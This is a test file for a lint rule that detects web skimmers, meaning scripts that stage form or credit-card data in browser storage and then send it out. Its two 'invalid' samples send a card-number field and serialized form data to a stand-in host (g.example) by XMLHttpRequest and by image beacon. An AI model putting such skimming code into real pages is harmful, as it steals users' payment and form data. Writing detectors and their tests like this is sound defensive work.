import rule from './storage-staging.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'form autosave/history cache in a script that loads pages by URL (htmx-style)', code: "function save(form) { var o = {}; for (var i = 0; i < form.elements.length; i++) o[form.elements[i].name] = form.elements[i].value; sessionStorage.setItem('draft', JSON.stringify(o)); } function load(path) { var x = new XMLHttpRequest(); x.open('GET', path); x.send(); }" },
    "localStorage.setItem('cart', JSON.stringify(cart)); fetch('/api');",
    "localStorage.setItem('cc', document.getElementById('cc-number').value);",
    "sessionStorage.setItem('theme', 'dark'); navigator.sendBeacon('/b', 'x');",
  ],
  invalid: [
    { code: "localStorage.setItem('x', document.getElementById('cc-number').value); var x = new XMLHttpRequest(); x.open('POST', 'https://g.example/'); x.send(localStorage.getItem('x'));", messageIds: ['staged'], severity: 'high' },
    { code: "var d = $('form').serialize(); sessionStorage.setItem('d', d); new Image().src = 'https://g.example/?' + sessionStorage.getItem('d');", messageIds: ['staged'] },
  ],
});
